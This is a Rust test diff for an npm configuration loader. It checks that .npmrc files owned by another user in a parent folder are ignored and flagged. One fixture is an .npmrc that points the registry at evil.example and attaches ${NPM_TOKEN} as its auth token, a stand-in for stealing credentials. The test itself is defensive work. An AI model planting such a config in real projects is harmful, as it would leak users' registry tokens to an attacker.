@@ -12,6 +12,8 @@ use super::*;
 struct MemoryFiles {
     files: HashMap<PathBuf, String>,
     folders: HashSet<PathBuf>,
+    /// Of another user.
+    foreign: HashSet<PathBuf>,
 }
 
 impl Files for MemoryFiles {
@@ -26,6 +28,10 @@ impl Files for MemoryFiles {
     fn is_dir(&self, path: &Path) -> bool {
         self.folders.contains(path)
     }
+
+    fn foreign(&self, path: &Path, _: &Path) -> Option<u32> {
+        self.foreign.contains(path).then_some(12345)
+    }
 }
 
 /// A user `me` in `/p/sub`, with npm under `/usr`.
@@ -37,6 +43,7 @@ fn around(files: &[(&str, &str)], vars: &[(&str, &str)]) -> Surroundings {
             .filter_map(|(path, _)| path.strip_suffix("/node_modules/x"))
             .map(|path| PathBuf::from(path).join("node_modules"))
             .collect(),
+        foreign: HashSet::new(),
     };
     Surroundings {
         vars: vars.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
@@ -189,6 +196,38 @@ fn the_project_is_the_nearest_folder_with_a_manifest_or_modules() {
     assert_eq!(tag(&[rc[0], rc[1], ("/p/node_modules/x", "")]), "outer");
     assert_eq!(tag(&rc), "inner");
     assert_eq!(load(&[rc[1], ("/p/sub/package.json", "{}")], &[("npm_config_global", "true")]).default_tag, "latest");
+}
+
+#[test]
+fn files_of_another_user_in_a_folder_above_decide_nothing() {
+    let files = [
+        ("/p/package.json", "{}"),
+        ("/p/.npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}"),
+        ("/p/sub/.npmrc", "registry=https://own.example/"),
+        ("/home/me/.npmrc", "registry=https://corp.example/"),
+    ];
+    let with = |foreign: &[&str]| {
+        let mut around = around(&files, &[("NPM_TOKEN", "t")]);
+        around.files = Arc::new(MemoryFiles {
+            files: files.iter().map(|(path, text)| (PathBuf::from(path), (*text).to_owned())).collect(),
+            foreign: foreign.iter().map(PathBuf::from).collect(),
+            ..MemoryFiles::default()
+        });
+        NpmConfig::load(&around, &Overrides::default())
+    };
+    for (foreign, registry, noted) in [
+        (&[][..], "https://evil.example/", 0),
+        (&["/p/.npmrc"], "https://corp.example/", 1),
+        // Nor does it hide the file of the folder that is worked in.
+        (&["/p/package.json"], "https://own.example/", 1),
+        (&["/p/package.json", "/p/.npmrc"], "https://own.example/", 1),
+        (&["/p/package.json", "/p/sub/.npmrc"], "https://corp.example/", 2),
+    ] {
+        let config = with(foreign);
+        assert_eq!((config.registry.as_str(), codes(&config)), (registry, vec!["npmrc-foreign"; noted]), "{foreign:?}");
+        assert_eq!(header(&config, "https://evil.example/x").is_some(), foreign.is_empty(), "{foreign:?}");
+        assert!(config.check().is_ok());
+    }
 }
 
 #[test]
